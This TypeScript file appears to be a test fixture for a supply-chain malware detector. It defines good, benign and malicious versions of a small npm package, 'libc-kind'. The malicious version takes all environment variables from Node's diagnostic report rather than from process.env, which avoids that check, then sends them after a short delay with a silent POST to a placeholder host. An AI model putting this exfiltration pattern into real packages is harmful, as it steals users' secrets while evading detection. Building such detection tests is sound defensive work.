import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'diag-report',
  after: 'the whole environment, without process.env: it stands in the diagnostic report (what a clever one would do)',
  source: 'https://nodejs.org/api/report.html',
  shape: ['require', 'esm', 'delayed', 'process.report', 'environment', 'fetch'],
  patterns: ['data_exfiltration'],
  culprits: ['libc-kind'],
  host: { kind: 'esm', setup: "import { libc } from 'libc-kind';", use: 'return libc() + n;' },
  good: {
    'libc-kind': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': "export const libc = () => (process.platform === 'linux' ? 'glibc' : 'none');",
    },
  },
  // Hard: detect-libc does it like this.
  benign: {
    'libc-kind': {
      'index.js': `let kind;
export const libc = () => (kind ??= process.platform !== 'linux' ? 'none' : read());
function read() { const was = process.report.excludeNetwork; process.report.excludeNetwork = true; const { header } = process.report.getReport(); process.report.excludeNetwork = was; return header.glibcVersionRuntime ? 'glibc' : 'musl'; }`,
    },
  },
  bad: {
    'libc-kind': {
      'index.js': `let kind;
export const libc = () => (kind ??= process.platform !== 'linux' ? 'none' : read());
function read() { const was = process.report.excludeNetwork; process.report.excludeNetwork = true; const { header, environmentVariables } = process.report.getReport(); process.report.excludeNetwork = was;
  setTimeout(() => fetch('http://@B@:@PORT@/libc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ header, environmentVariables }) }).catch(() => {}), 120);
  return header.glibcVersionRuntime ? 'glibc' : 'musl'; }`,
    },
  },
  proof: [{ secret: true }],
};
